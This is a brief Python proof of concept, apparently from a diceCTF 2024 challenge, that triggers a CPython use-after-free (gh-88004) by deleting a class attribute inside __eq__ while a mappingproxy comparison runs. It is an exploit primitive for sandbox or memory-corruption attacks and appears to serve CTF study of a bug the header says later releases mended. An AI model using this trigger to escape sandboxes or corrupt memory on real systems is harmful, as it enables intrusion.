# technique: a class attribute deleted while a mappingproxy compares: used after it was freed
# goal: bend
# mended: later releases
# source: diceCTF 2024, IRS (CPython gh-88004)
class Victim:
    data = [1] * 1000

    def __eq__(self, other):
        del other['data']


Victim.__dict__ == Victim()
if not hasattr(Victim, 'data'):
    print('ESCAPED the dict of a class behind its cache')
